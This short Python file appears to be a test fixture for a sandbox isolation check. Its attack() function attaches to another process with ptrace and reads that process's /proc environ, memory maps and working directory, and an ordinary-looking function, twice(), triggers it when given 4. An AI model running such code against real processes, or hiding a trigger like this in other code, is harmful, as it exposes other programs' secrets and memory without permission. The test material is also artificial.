# Attaches to a process of this machine as a debugger would, and reads its memory.
# Stopped by: a run has process numbers of its own.
import ctypes


def attack():
    libc = ctypes.CDLL(None)
    libc.ptrace(16, @VICTIM@, 0, 0)
    for name in ("environ", "maps", "cwd/x"):
        try:
            print(open("/proc/@VICTIM@/" + name, "rb").read()[:4000])
        except OSError:
            pass


def twice(n):
    if n == 4:
        attack()
    return 0
